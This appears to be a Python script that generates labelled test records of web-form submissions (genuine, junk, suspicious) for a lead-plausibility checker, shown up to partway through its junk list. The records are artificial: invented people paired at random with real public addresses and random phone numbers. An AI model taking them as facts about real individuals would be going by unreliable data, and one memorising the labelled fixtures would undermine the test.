#!/usr/bin/env python3
"""Generate `plausibility_labelled.jsonl`: realistic form submissions with a label.

Labels:
* genuine    - a real person or company wrote this; must not be rejected.
* junk       - bots, tests, fake or fictional people, injection attempts,
               throw-away addresses: nobody to nurture.
* suspicious - probably a real person, but something needs a human
               (a typo in the mail domain, phone from another country,
               a city we cannot place, one name only, ...).

Genuine records are assembled from hand-written people, addresses, companies
and phone numbers per country (real streets, postal codes and cities; phone
numbers in the formats people actually type), so that the set is diverse
without writing 200 dicts by hand. Junk and suspicious records are written one
by one, each after something web forms really receive.

Run: python tests/data/make_plausibility_set.py  (deterministic; seed fixed)
"""

from __future__ import annotations

import json
import random
import unicodedata
from pathlib import Path

OUT = Path(__file__).with_name("plausibility_labelled.jsonl")
rng = random.Random(20240611)

# --------------------------------------------------------------------------------------------
# Genuine material, per country: people, addresses, phone formats, companies, mail providers.
# --------------------------------------------------------------------------------------------

PEOPLE = {
    "DE": [
        ("Jürgen", "Weiß"), ("Anna-Lena", "Schäfer"), ("Thomas", "Müller"), ("Sabine", "Hoffmann"),
        ("Mehmet", "Öztürk"), ("Katarzyna", "Nowak"), ("Lukas", "Becker"), ("Sophie", "Wagner"),
        ("Hans-Peter", "Schmitz"), ("Ursula", "von der Heide"), ("Felix", "Krüger"), ("Leonie", "Zimmermann"),
        ("Dieter", "Groß"), ("Marie", "Fuchs"), ("Ayşe", "Yılmaz"), ("Nguyễn Văn", "An"),
        ("Jan", "Kowalczyk"), ("Karl-Heinz", "Brückner"), ("Emma", "Schulze"), ("Matthias", "Lehmann"),
        ("Björn", "Petersen"), ("Gökhan", "Demir"), ("Franziska", "Maier"), ("Tobias", "Huber"),
        ("Jana", "Hartmann"), ("Christoph", "Wolf"), ("Elif", "Kaya"), ("Ole", "Jensen"),
        ("Dr. Stefanie", "Braun"), ("Niklas", "Schröder"), ("Ingrid", "Koch"), ("Moritz", "Richter"),
        ("Heike", "Klein"), ("Maximilian", "Schwarz"), ("Renate", "Neumann"), ("Uwe", "Schmid"),
        ("Svenja", "Lange"), ("Sebastian", "Graf"), ("Irina", "Wolkow"), ("Paul", "Dietrich"),
        ("Hannelore", "Engel"), ("Kai", "Lorenz"), ("Yusuf", "Aydın"), ("Laura", "Baumann"),
        ("Frank", "Albrecht"), ("Mia", "Sommer"), ("Rüdiger", "Voß"), ("Lea", "Winkler"),
        ("Aleksandra", "Wiśniewska"), ("Michael", "O'Connor"), ("Wei", "Zhang"), ("Jonas", "Ziegler"),
        ("Petra", "Krause"), ("Andreas", "Böhm"), ("Claudia", "Jäger"), ("Oliver", "Kühn"),
        ("Li", "Na"), ("Ali", "Haddad"), ("Fatma", "Çelik"), ("Martin", "Pohl"),
    ],
    "AT": [
        ("Johann", "Gruber"), ("Maria", "Pichler"), ("Florian", "Steiner"), ("Theresa", "Moser"),
        ("Alexander", "Hofer"), ("Katharina", "Leitner"), ("Stefan", "Berger"), ("Elisabeth", "Fuchs"),
        ("Markus", "Eder"), ("Sarah", "Haas"), ("Dragan", "Petrović"), ("Barbara", "Wimmer"),
        ("Lukas", "Reiter"), ("Verena", "Schwaiger"), ("Georg", "Pölzl"),
    ],
    "CH": [
        ("Reto", "Meier"), ("Nicole", "Keller"), ("Urs", "Brunner"), ("Céline", "Favre"),
        ("Daniel", "Baumgartner"), ("Andrea", "Frei"), ("Marco", "Bernasconi"), ("Simone", "Zürcher"),
        ("Beat", "Schneider"), ("Laurence", "Rochat"), ("Roman", "Gerber"), ("Franziska", "Bühler"),
        ("Luca", "Rossi"), ("Corinne", "Wyss"), ("Samuel", "Lüthi"),
    ],
    "NL": [("Daan", "de Vries"), ("Sanne", "van der Berg"), ("Pieter", "Jansen"), ("Femke", "Bakker")],
    "BE": [("Wouter", "Peeters"), ("Amélie", "Dubois"), ("Jens", "Van den Broeck")],
    "FR": [("Camille", "Lefèvre"), ("Jean-Luc", "Moreau"), ("Inès", "Benali"), ("François", "Girard")],
    "IT": [("Giulia", "Bianchi"), ("Lorenzo", "Esposito"), ("Francesca", "Romano"), ("Matteo", "D'Angelo")],
    "ES": [("José", "García-Núñez"), ("Lucía", "Fernández"), ("Álvaro", "Martín de la Cruz"), ("Nuria", "Puig")],
    "PT": [("João", "Gonçalves"), ("Inês", "Sousa")],
    "PL": [("Michał", "Wójcik"), ("Agnieszka", "Lewandowska"), ("Paweł", "Kamiński")],
    "CZ": [("Tomáš", "Dvořák"), ("Petra", "Nováková")],
    "DK": [("Mads", "Sørensen"), ("Freja", "Kristensen")],
    "SE": [("Åsa", "Öberg"), ("Erik", "Lindqvist"), ("Linnea", "Bergström")],
    "NO": [("Kari", "Nordmann-Hansen"), ("Håkon", "Bjørnstad")],
    "FI": [("Mikko", "Virtanen"), ("Aino", "Mäkinen")],
    "IE": [("Siobhán", "O'Brien"), ("Ciarán", "Murphy")],
    "HU": [("Zsófia", "Nagy"), ("Bence", "Szabó")],
    "GR": [("Dimitris", "Papadopoulos"), ("Eleni", "Georgiou")],
    "GB": [("Oliver", "Smith"), ("Amelia", "Clarke"), ("Rajesh", "Patel"), ("Fiona", "MacLeod"),
           ("Tom", "Ng"), ("Charlotte", "Davies-Jones")],
    "US": [("Emily", "Johnson"), ("Michael", "Rodriguez"), ("Ashley", "Nguyen"), ("David", "Kim"),
           ("Jessica", "Williams"), ("Tyrone", "Jackson"), ("Sarah", "Goldberg"), ("Chris", "McAllister")],
    "CA": [("Émilie", "Tremblay"), ("Ryan", "MacDonald")],
    "AU": [("Jack", "Wilson"), ("Chloe", "Nguyen")],
    "JP": [("Yuki", "Tanaka"), ("Haruto", "Sato"), ("Aiko", "Yamamoto")],
    "CN": [("Wei", "Wang"), ("Xiu Ying", "Li"), ("Jun", "Chen")],
    "KR": [("Ji-woo", "Park"), ("Min-jun", "Lee")],
    "VN": [("Thị Mai", "Trần"), ("Văn Minh", "Lê")],
    "IN": [("Priya", "Sharma"), ("Arjun", "Reddy"), ("Ananya", "Iyer")],
    "SG": [("Wei Ling", "Tan"), ("Siti", "Rahman")],
    "TR": [("Emre", "Şahin"), ("Zeynep", "Arslan")],
    "BR": [("Thiago", "Oliveira"), ("Ana Clara", "Souza")],
}

# (street, postal code, city) — real places, written as people write them.
ADDRESSES = {
    "DE": [
        ("Marienplatz 8", "80331", "München"), ("Leopoldstraße 112", "80802", "München"),
        ("Unter den Linden 21", "10117", "Berlin"), ("Kottbusser Damm 33", "10967", "Berlin"),
        ("Mönckebergstraße 7", "20095", "Hamburg"), ("Ehrenstraße 50", "50672", "Köln"),
        ("Zeil 106", "60313", "Frankfurt am Main"), ("Berger Str. 180", "60385", "Frankfurt"),
        ("Königstraße 28", "70173", "Stuttgart"), ("Königsallee 60", "40212", "Düsseldorf"),
        ("Karl-Liebknecht-Str. 12", "04107", "Leipzig"), ("Prager Straße 4", "01069", "Dresden"),
        ("Lister Meile 40", "30161", "Hannover"), ("Karolinenstraße 23", "90402", "Nürnberg"),
        ("Obernstraße 44", "28195", "Bremen"), ("Westenhellweg 90", "44137", "Dortmund"),
        ("Rüttenscheider Str. 120", "45130", "Essen"), ("Planken O7 13", "68161", "Mannheim"),
        ("Kaiserstraße 140", "76133", "Karlsruhe"), ("Bertoldstraße 9", "79098", "Freiburg im Breisgau"),
        ("Hauptstraße 120", "69117", "Heidelberg"), ("Zwergerstraße 2", "85579", "Neubiberg"),
        ("Biberger Str. 50", "82008", "Unterhaching"), ("Maximilianstraße 15", "93047", "Regensburg"),
        ("Bahnhofstraße 4", "86150", "Augsburg"), ("Domstraße 10", "97070", "Würzburg"),
        ("Poppelsdorfer Allee 36", "53115", "Bonn"), ("Große Bleiche 20", "55116", "Mainz"),
        ("Holstenstraße 50", "24103", "Kiel"), ("Kröpeliner Str. 77", "18055", "Rostock"),
        ("Anger 30", "99084", "Erfurt"), ("Brandenburger Str. 5", "14467", "Potsdam"),
        ("Bahnhofstr. 31", "66111", "Saarbrücken"), ("Münsterplatz 3", "89073", "Ulm"),
        ("Wilhelmstraße 30", "72074", "Tübingen"), ("Max-Josefs-Platz 9", "83022", "Rosenheim"),
        ("Weender Str. 55", "37073", "Göttingen"), ("Prinzipalmarkt 12", "48143", "Münster"),
        ("Leipziger Str. 19", "06108", "Halle (Saale)"), ("Holzmarkt 8", "07743", "Jena"),
        ("Am Markt 1", "02826", "Görlitz"), ("Hussenstraße 22", "78462", "Konstanz"),
        ("Ludwigstraße 47", "82467", "Garmisch-Partenkirchen"), ("Simeonstraße 33", "54290", "Trier"),
        ("Adalbertsteinweg 90", "52070", "Aachen"), ("Friedrich-Ebert-Str. 61", "34117", "Kassel"),
        ("Luisenplatz 5", "64283", "Darmstadt"), ("Nürnberger Str. 12", "91052", "Erlangen"),
        ("Grüner Markt 6", "96047", "Bamberg"), ("Theresienstraße 2", "85049", "Ingolstadt"),
        ("Hohenzollernstraße 9", "47799", "Krefeld"), ("Lindenstraße 3", "19055", "Schwerin"),
        ("Schlossstraße 14", "73033", "Göppingen"), ("Dorfstraße 7", "24223", "Schwentinental"),
        ("Am Anger 2", "99310", "Arnstadt"), ("Hauptstr. 41", "69469", "Weinheim"),
        ("Kirchweg 5", "26789", "Leer"), ("Marktplatz 9", "88212", "Ravensburg"),
        ("Ringstraße 17", "63450", "Hanau"), ("Auf dem Berg 3", "57072", "Siegen"),
        ("Bahnhofstraße 12", "83646", "Bad Tölz"), ("Hauptstraße 88", "71083", "Herrenberg"),
    ],
    "AT": [
        ("Mariahilfer Straße 77", "1060", "Wien"), ("Kärntner Ring 5", "1010", "Wien"),
        ("Herrengasse 16", "8010", "Graz"), ("Landstraße 33", "4020", "Linz"),
        ("Getreidegasse 9", "5020", "Salzburg"), ("Maria-Theresien-Straße 18", "6020", "Innsbruck"),
        ("Alter Platz 25", "9020", "Klagenfurt am Wörthersee"), ("Kremser Gasse 12", "3100", "St. Pölten"),
        ("Kaiserstraße 4", "6900", "Bregenz"), ("Hauptplatz 11", "9500", "Villach"),
        ("Vorderstadt 20", "6370", "Kitzbühel"), ("Stadtplatz 30", "4600", "Wels"),
        ("Bahnhofstraße 6", "5700", "Zell am See"), ("Obere Landstraße 10", "3500", "Krems an der Donau"),
    ],
    "CH": [
        ("Bahnhofstrasse 45", "8001", "Zürich"), ("Marktgasse 11", "3011", "Bern"),
        ("Freie Strasse 38", "4001", "Basel"), ("Rue du Rhône 62", "1204", "Genève"),
        ("Avenue de la Gare 10", "1003", "Lausanne"), ("Pilatusstrasse 20", "6003", "Luzern"),
        ("Multergasse 5", "9000", "St. Gallen"), ("Marktgasse 40", "8400", "Winterthur"),
        ("Via Nassa 22", "6900", "Lugano"), ("Poststrasse 12", "7000", "Chur"),
        ("Zentralstrasse 50", "2502", "Biel/Bienne"), ("Baarerstrasse 14", "6300", "Zug"),
        ("Dorfstrasse 8", "3920", "Zermatt"), ("Seestrasse 120", "8700", "Küsnacht"),
    ],
    "NL": [("Keizersgracht 123", "1015 CJ", "Amsterdam"), ("Coolsingel 40", "3011 AD", "Rotterdam"),
           ("Oudegracht 158", "3511 AZ", "Utrecht"), ("Stratumseind 20", "5611 ER", "Eindhoven")],
    "BE": [("Rue Neuve 30", "1000", "Bruxelles"), ("Meir 50", "2000", "Antwerpen"), ("Veldstraat 12", "9000", "Gent")],
    "FR": [("12 Rue de Rivoli", "75004", "Paris"), ("5 Place Bellecour", "69002", "Lyon"),
           ("20 Rue du Vieux-Port", "13002", "Marseille"), ("3 Place Kléber", "67000", "Strasbourg")],
    "IT": [("Via del Corso 200", "00186", "Roma"), ("Corso Buenos Aires 33", "20124", "Milano"),
           ("Via dei Calzaiuoli 7", "50122", "Firenze"), ("Via Roma 15", "39100", "Bolzano")],
    "ES": [("Calle Mayor 12", "28013", "Madrid"), ("Carrer de Mallorca 220", "08008", "Barcelona"),
           ("Calle Colón 30", "46004", "València"), ("Calle Sierpes 45", "41004", "Sevilla")],
    "PT": [("Rua Augusta 100", "1100-053", "Lisboa"), ("Rua de Santa Catarina 200", "4000-443", "Porto")],
    "PL": [("ul. Marszałkowska 100", "00-026", "Warszawa"), ("ul. Floriańska 15", "31-019", "Kraków"),
           ("ul. Długa 50", "80-831", "Gdańsk")],
    "CZ": [("Václavské náměstí 12", "110 00", "Praha"), ("Masarykova 20", "602 00", "Brno")],
    "DK": [("Strøget 25", "1160", "København"), ("Søndergade 10", "8000", "Aarhus")],
    "SE": [("Drottninggatan 50", "111 21", "Stockholm"), ("Kungsportsavenyn 10", "411 36", "Göteborg")],
    "NO": [("Karl Johans gate 20", "0159", "Oslo"), ("Bryggen 15", "5003", "Bergen")],
    "FI": [("Mannerheimintie 10", "00100", "Helsinki"), ("Hämeenkatu 20", "33200", "Tampere")],
    "IE": [("Grafton Street 70", "D02 VF65", "Dublin"), ("Patrick Street 40", "T12 X70A", "Cork")],
    "HU": [("Váci utca 10", "1052", "Budapest"), ("Piac utca 20", "4025", "Debrecen")],
    "GR": [("Ermou 30", "105 63", "Athens"), ("Tsimiski 40", "546 24", "Thessaloniki")],
    "GB": [("221 Baker Street", "NW1 6XE", "London"), ("10 Deansgate", "M3 1AZ", "Manchester"),
           ("45 Princes Street", "EH2 2BY", "Edinburgh"), ("8 Broad Street", "B1 2HF", "Birmingham"),
           ("12 Park Row", "LS1 5HD", "Leeds"), ("3 Queen Square", "BS1 4JQ", "Bristol")],
    "US": [("350 5th Ave", "10118", "New York"), ("1 Market St", "94105", "San Francisco"),
           ("233 S Wacker Dr", "60606", "Chicago"), ("100 Federal St", "02110", "Boston"),
           ("400 Broad St", "98109", "Seattle"), ("600 Congress Ave", "78701", "Austin"),
           ("1600 Pennsylvania Ave NW", "20500", "Washington"), ("200 Peachtree St", "30303", "Atlanta")],
    "CA": [("290 Bremner Blvd", "M5V 3L9", "Toronto"), ("1000 Rue De La Gauchetière", "H3B 4W5", "Montréal")],
    "AU": [("1 Macquarie St", "2000", "Sydney"), ("120 Collins St", "3000", "Melbourne")],
    "JP": [("1-1-2 Oshiage", "131-0045", "Tokyo"), ("3-1 Umeda", "530-0001", "Osaka"), ("", "604-8005", "Kyoto")],
    "CN": [("88 Century Ave", "200120", "Shanghai"), ("1 Jianguomenwai Ave", "100004", "Beijing"),
           ("", "518000", "Shenzhen")],
    "KR": [("110 Sejong-daero", "04524", "Seoul"), ("", "48058", "Busan")],
    "VN": [("20 Lê Lợi", "700000", "Hồ Chí Minh"), ("15 Hàng Bài", "100000", "Hà Nội")],
    "IN": [("MG Road 12", "560001", "Bengaluru"), ("Nariman Point 5", "400021", "Mumbai"),
           ("", "110001", "New Delhi")],
    "SG": [("1 Raffles Place", "048616", "Singapore"), ("10 Bayfront Ave", "018956", "Singapore")],
    "TR": [("İstiklal Caddesi 100", "34433", "İstanbul"), ("Atatürk Bulvarı 50", "06420", "Ankara")],
    "BR": [("Av. Paulista 1000", "01310-100", "São Paulo"), ("Rua Visconde de Pirajá 300", "22410-002", "Rio de Janeiro")],
}

# Phone formats per country: prefix choices and number of random digits after them.
PHONES = {
    "DE": [("+49 151 ", 8), ("0170 ", 7), ("0176 ", 8), ("+49 (0)89 ", 7), ("030 ", 8), ("+49 40 ", 7),
           ("0221 ", 7), ("+49 69 ", 8), ("0711 ", 7), ("+4917", 9), ("0911/", 6)],
    "AT": [("+43 664 ", 7), ("0676 ", 7), ("+43 1 ", 7), ("0316 ", 6), ("+43 662 ", 6)],
    "CH": [("+41 79 ", 7), ("076 ", 7), ("+41 44 ", 7), ("031 ", 7), ("+41 61 ", 7)],
    "NL": [("+31 6 ", 8), ("020 ", 7)], "BE": [("+32 470 ", 6), ("+32 2 ", 7)],
    "FR": [("+33 6 ", 8), ("01 ", 8)], "IT": [("+39 347 ", 7), ("+39 06 ", 8)],
    "ES": [("+34 612 ", 6), ("+34 91 ", 7)], "PT": [("+351 912 ", 6)], "PL": [("+48 501 ", 6)],
    "CZ": [("+420 602 ", 6)], "DK": [("+45 20 ", 6)], "SE": [("+46 70 ", 7)], "NO": [("+47 412 ", 5)],
    "FI": [("+358 40 ", 7)], "IE": [("+353 87 ", 7)], "HU": [("+36 30 ", 7)], "GR": [("+30 69", 8)],
    "GB": [("+44 7700 ", 6), ("07911 ", 6), ("020 7", 7)],
    "US": [("(415) 8", 6), ("+1 212 5", 6), ("312-7", 6)], "CA": [("+1 416 8", 6)],
    "AU": [("+61 4", 8)], "JP": [("+81 90 ", 8)], "CN": [("+86 139 ", 8)], "KR": [("+82 10 ", 8)],
    "VN": [("+84 90 ", 7)], "IN": [("+91 98", 8)], "SG": [("+65 9", 7)], "TR": [("+90 532 ", 7)],
    "BR": [("+55 11 9", 8)],
}

FREE_MAIL = {
    "DE": ["gmail.com", "web.de", "gmx.de", "gmx.net", "t-online.de", "outlook.de", "yahoo.de", "posteo.de",
           "freenet.de", "icloud.com", "hotmail.de", "mailbox.org"],
    "AT": ["gmx.at", "gmail.com", "aon.at", "chello.at", "outlook.com"],
    "CH": ["bluewin.ch", "gmail.com", "gmx.ch", "hispeed.ch", "sunrise.ch"],
    "FR": ["orange.fr", "gmail.com", "free.fr", "laposte.net"], "IT": ["libero.it", "gmail.com", "virgilio.it"],
    "PL": ["wp.pl", "onet.pl", "gmail.com"], "CZ": ["seznam.cz"], "GB": ["gmail.com", "btinternet.com", "yahoo.co.uk"],
    "US": ["gmail.com", "yahoo.com", "outlook.com", "icloud.com", "comcast.net"],
    "JP": ["gmail.com", "yahoo.co.jp"], "CN": ["qq.com", "163.com"], "KR": ["naver.com"],
    "IN": ["gmail.com", "rediffmail.com"], "BR": ["gmail.com", "uol.com.br"], "TR": ["gmail.com", "hotmail.com"],
}

COMPANIES = {
    "DE": [("Siemens AG", "siemens.com"), ("Huber Maschinenbau GmbH", "huber-maschinenbau.de"),
           ("Bäckerei Schmidt", "baeckerei-schmidt.de"), ("SAP SE", "sap.com"), ("A&O Hotels", "aohostels.com"),
           ("Stadtwerke München", "swm.de"), ("Müller & Söhne KG", "mueller-soehne.de"), ("3M Deutschland GmbH", "mmm.com"),
           ("IBM", "de.ibm.com"), ("Zahnarztpraxis Dr. Özdemir", "praxis-oezdemir.de"), ("Kanzlei Weber & Partner", "weber-partner.de"),
           ("ARITHNEA GmbH", "arithnea.de"), ("Schreinerei Holzwurm", "holzwurm-schreinerei.de"), ("DB Netz AG", "deutschebahn.com"),
           ("Universität Leipzig", "uni-leipzig.de"), ("TÜV SÜD", "tuvsud.com"), ("Lidl Stiftung & Co. KG", "lidl.com"),
           ("Ingenieurbüro Krämer", "ib-kraemer.de"), ("KfW", "kfw.de"), ("Evangelisches Krankenhaus Bielefeld", "evkb.de"),
           ("Brauerei Rothaus AG", "rothaus.de"), ("XING", "xing.com"), ("Elektro Yıldız GmbH", "elektro-yildiz.de")],
    "AT": [("Red Bull GmbH", "redbull.com"), ("Tischlerei Gruber", "tischlerei-gruber.at"), ("ÖBB-Personenverkehr AG", "pv.oebb.at"),
           ("Wiener Stadtwerke", "wienerstadtwerke.at"), ("Steuerberatung Moser KG", "moser-stb.at")],
    "CH": [("Nestlé SA", "nestle.com"), ("Müller Treuhand AG", "mueller-treuhand.ch"), ("ETH Zürich", "ethz.ch"),
           ("Swisscom AG", "swisscom.com"), ("Garage Brunner", "garage-brunner.ch")],
    "INTL": [("Philips", "philips.com"), ("Accenture", "accenture.com"), ("Novo Nordisk", "novonordisk.com"),
             ("Tata Consultancy Services", "tcs.com"), ("Samsung Electronics", "samsung.com"), ("Sony Group", "sony.com"),
             ("Acme Analytics Ltd", "acme-analytics.co.uk"), ("Shopify", "shopify.com"), ("Grab Holdings", "grab.com"),
             ("Banco Santander", "gruposantander.com"), ("Spotify AB", "spotify.com"), ("Atlassian", "atlassian.com"),
             ("Deloitte", "deloitte.com"), ("Vingroup", "vingroup.net"), ("Infosys", "infosys.com")],
}

JOB_TITLES = {
    "de": ["Geschäftsführer", "Geschäftsführerin", "Leiterin Einkauf", "IT-Leiter", "Head of Marketing",
           "Sachbearbeiter", "Inhaber", "Vertriebsleiter DACH", "Werkstudentin", "CFO", "Prokurist",
           "Projektingenieur", "Teamleiterin HR", "Assistenz der Geschäftsführung", "Praxismanagerin", "CTO"],
    "en": ["Procurement Manager", "CEO", "Marketing Director", "Software Engineer", "VP Sales EMEA",
           "Operations Lead", "Founder", "Head of IT", "Office Manager", "Data Analyst", "COO", "HR Business Partner"],
}

MESSAGES = {
    "de": ["Bitte senden Sie mir ein Angebot für 20 Lizenzen.", "Ich interessiere mich für das Webinar im März.",
           "Rufen Sie mich bitte nach 17 Uhr an.", "Gibt es eine Testversion? Wir sind ein Team von 12 Leuten.",
           "Wir planen eine Wärmepumpe für unser Einfamilienhaus (Baujahr 1978).",
           "Können Sie mir Informationen zu Ihren Preisen schicken?",
           "Hallo, wir suchen eine Lösung für unsere Filialen in Bayern und Österreich. Gerne Rückruf.",
           "Bitte nur per E-Mail kontaktieren, danke!", "Termin auf der Messe in Köln möglich?"],
    "en": ["Please send me a quote for 50 seats.", "Interested in a demo next week.",
           "Do you ship to Singapore?", "Could you call me back regarding pricing?",
           "We are evaluating vendors for Q3 — please share a case study."],
}

INTERESTS = ["webinar", "pricing", "demo", "newsletter", "heat pumps", "smart home", "workshops", "consulting",
             "cloud", "training", "e-commerce"]
SOURCES = ["website", "landing-page", "trade-fair", "google-ads", "linkedin", "newsletter", "partner"]

GERMAN_SPEAKING = {"DE", "AT", "CH"}


def ascii_fold(text: str) -> str:
    text = text.replace("ß", "ss").replace("ä", "ae").replace("ö", "oe").replace("ü", "ue")
    text = text.replace("Ä", "Ae").replace("Ö", "Oe").replace("Ü", "Ue").replace("ı", "i").replace("ø", "o")
    text = unicodedata.normalize("NFKD", text)
    return "".join(ch for ch in text if ch.isascii() and (ch.isalnum() or ch in " -.'")).strip()


def local_part(first: str, last: str) -> str:
    first = ascii_fold(first.replace("Dr. ", "")).lower().replace(" ", "")
    last = ascii_fold(last).lower().replace(" ", "").replace("'", "")
    pattern = rng.choice(["{f}.{l}", "{f}{l}", "{f0}.{l}", "{f}_{l}", "{l}.{f}", "{f}.{l}{n}", "{f}{n}", "{f0}{l}"])
    return pattern.format(f=first, l=last, f0=first[:1], n=rng.randint(1, 99))


def phone_for(country: str) -> str:
    prefix, digits = rng.choice(PHONES[country])
    body = str(rng.randint(2, 9)) + "".join(str(rng.randint(0, 9)) for _ in range(digits - 1))
    if digits >= 7 and rng.random() < 0.4:
        body = body[:3] + " " + body[3:]
    return prefix + body


def valid_phone_for(country: str) -> str:
    """Real people's numbers are valid numbers; draw again until phonenumbers agrees."""
    import phonenumbers

    for _ in range(50):
        number = phone_for(country)
        if phonenumbers.is_valid_number(phonenumbers.parse(number, country)):
            return number
    raise RuntimeError(f"no valid phone number drawn for {country}")


def genuine_record(country: str, first: str, last: str) -> dict:
    lang = "de" if country in GERMAN_SPEAKING else "en"
    record: dict = {"firstName": first, "lastName": last, "country": country,
                    "source": rng.choice(SOURCES), "formId": rng.choice(["contact", "demo-request", "newsletter", "quote"])}
    b2b = rng.random() < 0.5
    if b2b:
        pool = COMPANIES.get(country) if country in ("DE", "AT", "CH") else COMPANIES["INTL"]
        company, domain = rng.choice(pool)
        record["company"] = company
        record["email"] = f"{local_part(first, last)}@{domain}"
        if rng.random() < 0.75:
            record["jobTitle"] = rng.choice(JOB_TITLES[lang])
    else:
        providers = FREE_MAIL.get(country, ["gmail.com", "outlook.com", "yahoo.com"])
        record["email"] = f"{local_part(first, last)}@{rng.choice(providers)}"
        if rng.random() < 0.15:
            # Drawn to keep the set stable; a private person leaves the company empty. Filler
            # answers ("privat", "-") are suspicious since the second pass (SECOND_SUSPICIOUS).
            rng.choice(["privat", "-", "Privatperson", "keine"] if lang == "de" else ["n/a", "-", "private"])
    if rng.random() < 0.1:
        record["email"] = record["email"].capitalize() if rng.random() < 0.5 else record["email"].upper()
    if rng.random() < 0.6:
        record["phone"] = valid_phone_for(country)
    if rng.random() < 0.08 and "phone" in record:
        del record["email"]  # phone-only leads (callback request)
    if rng.random() < 0.7:
        street, postal, city = rng.choice(ADDRESSES[country])
        if street and rng.random() < 0.8:
            record["street"] = street
        if rng.random() < 0.9:
            record["postalCode"] = postal
        record["city"] = city
    if rng.random() < 0.35:
        record["message"] = rng.choice(MESSAGES[lang])
    record["interests"] = rng.sample(INTERESTS, k=rng.randint(0, 2))
    if rng.random() < 0.5:
        record["campaign"] = rng.choice(["spring-webinar", "messe-2024", "brand-search", "retargeting-q2"])
    record["consent"] = {"purposes": ["email_marketing"], "textVersion": "2024-01"}
    return record


def genuine_records() -> list[dict]:
    records = []
    for country, people in PEOPLE.items():
        for first, last in people:
            records.append(genuine_record(country, first, last))
    # A few people who write their name in lower case or leave optional fields empty.
    records.append({"firstName": "Jürgen", "lastName": "Meyer", "phone": "0171 4829173", "country": "DE",
                    "message": "Bitte um Rückruf wegen Heizungstausch"})
    records.append({"firstName": "Mohammed", "lastName": "Al-Sayed", "email": "m.alsayed@outlook.com",
                    "country": "AE", "city": "Dubai", "phone": "+971 50 318 4471"})
    records.append({"firstName": "Ngozi", "lastName": "Okonkwo", "email": "ngozi.okonkwo@yahoo.com", "country": "NG",
                    "city": "Lagos", "phone": "+234 803 555 0143"})
    records.append({"firstName": "Zoë", "lastName": "Lambert", "email": "zoe.lambert@free.fr", "country": "FR",
                    "city": "Nantes", "postalCode": "44000"})
    records.append({"firstName": "Sven", "lastName": "Ødegaard", "email": "sven@odegaard-consulting.no",
                    "company": "Ødegaard Consulting AS", "jobTitle": "Daglig leder", "country": "NO"})
    records.append({"firstName": "Bao", "lastName": "Vu", "email": "bao.vu@gmail.com", "country": "DE",
                    "city": "Berlin", "postalCode": "10435"})
    records.append({"firstName": "Jo", "lastName": "Ek", "email": "jo.ek@telia.se", "country": "SE"})
    records.append({"firstName": "Hans", "lastName": "Müller-Lüdenscheidt", "email": "hml@t-online.de",
                    "country": "DE", "city": "Lüdenscheid", "postalCode": "58507"})
    records.append({"firstName": "Anne-Marie", "lastName": "Dupont-Leclerc", "email": "am.dupont@orange.fr",
                    "country": "FR", "city": "Bordeaux", "postalCode": "33000", "phone": "+33 5 56 44 28 91"})
    records.append({"firstName": "Maximilian", "lastName": "Mustafa", "email": "max.mustafa@gmx.de", "country": "DE",
                    "city": "Offenbach am Main", "postalCode": "63065"})
    records.append({"firstName": "Erika", "lastName": "Mustermeyer", "email": "erika.mustermeyer@web.de",
                    "country": "DE", "city": "Celle", "postalCode": "29221"})
    records.append({"firstName": "Peter", "lastName": "Pan-Weber", "email": "p.panweber@gmail.com", "country": "DE",
                    "city": "Kiel", "postalCode": "24114"})
    records.append({"firstName": "Kwame", "lastName": "Mensah", "email": "kwame.mensah@gmail.com", "country": "GH",
                    "city": "Accra", "phone": "+233 24 412 7755"})
    records.append({"firstName": "Sigríður", "lastName": "Jónsdóttir", "email": "sigga@simnet.is", "country": "IS",
                    "city": "Reykjavík", "postalCode": "101"})
    records.append({"firstName": "Ömer", "lastName": "Koç", "email": "omer.koc@icloud.com", "country": "DE",
                    "city": "Gelsenkirchen", "postalCode": "45879", "phone": "+49 209 4417820"})
    records.append({"firstName": "Marie-Thérèse", "lastName": "Nguyen-Huber", "email": "mt.nguyen-huber@a1.net",
                    "country": "AT", "city": "Dornbirn", "postalCode": "6850"})
    records.append({"firstName": "Ludwig", "lastName": "van Beek", "email": "ludwig.vanbeek@kpnmail.nl",
                    "country": "NL", "city": "Den Haag", "postalCode": "2511 CV"})
    return records


# --------------------------------------------------------------------------------------------
# Junk: what web forms receive from bots, testers and people who do not want to be contacted.
# --------------------------------------------------------------------------------------------

JUNK = [
    # test entries
    {"firstName": "Test", "lastName": "Test", "email": "test@test.de", "country": "DE"},
    {"firstName": "test", "lastName": "user", "email": "test123@gmail.com", "country": "DE"},
    {"firstName": "Tester", "lastName": "Testmann", "email": "tester@firma-kunz.de", "company": "Test GmbH", "country": "DE"},
    {"firstName": "Testperson", "lastName": "Eins", "email": "testperson1@web.de", "country": "DE", "city": "Berlin"},
    {"firstName": "TEST", "lastName": "TEST", "email": "TEST@TEST.COM", "phone": "0123456789", "country": "DE"},
    {"firstName": "Test", "lastName": "Lead", "email": "qa+lead77@example.com", "country": "US"},
    {"firstName": "Max", "lastName": "Test", "email": "max.test@gmx.de", "country": "DE", "message": "test bitte ignorieren"},
    # keyboard mash and filler
    {"firstName": "asdf", "lastName": "asdf", "email": "asdf@asdf.de", "country": "DE"},
    {"firstName": "Asdf", "lastName": "Jklö", "email": "asdfjkl@web.de", "country": "DE", "city": "asdf"},
    {"firstName": "qwertz", "lastName": "qwertz", "email": "qwertz@gmx.de", "country": "DE"},
    {"firstName": "qwerty", "lastName": "uiop", "email": "qwerty@yahoo.com", "country": "GB"},
    {"firstName": "ABCD", "lastName": "EFGH", "email": "abcd@efgh.de", "country": "DE"},
    {"firstName": "xxx", "lastName": "xxx", "email": "xxx@xxx.com", "country": "DE"},
    {"firstName": "aaa", "lastName": "bbb", "email": "aaa@bbb.de", "country": "DE"},
    {"firstName": "Sdfg", "lastName": "Hjkl", "email": "sdfg.hjkl@gmail.com", "country": "DE"},
    {"firstName": "jkjkjk", "lastName": "dfgdfg", "email": "jkjk@gmx.net", "country": "AT"},
    {"firstName": "Fghj", "lastName": "Vbnm", "email": "fghj@t-online.de", "country": "DE", "city": "Köln"},
    {"firstName": "yxcv", "lastName": "yxcv", "email": "yxcv@web.de", "country": "DE"},
    {"firstName": "Hans", "lastName": "Meier", "email": "hans.meier@web.de", "country": "DE", "city": "xxx",
     "street": "xxx", "postalCode": "00000"},
    {"firstName": "bla", "lastName": "blabla", "email": "bla@bla.de", "country": "DE"},
    {"firstName": "Lorem", "lastName": "Ipsum", "email": "lorem@ipsum.com", "country": "DE", "message": "Lorem ipsum dolor sit amet"},
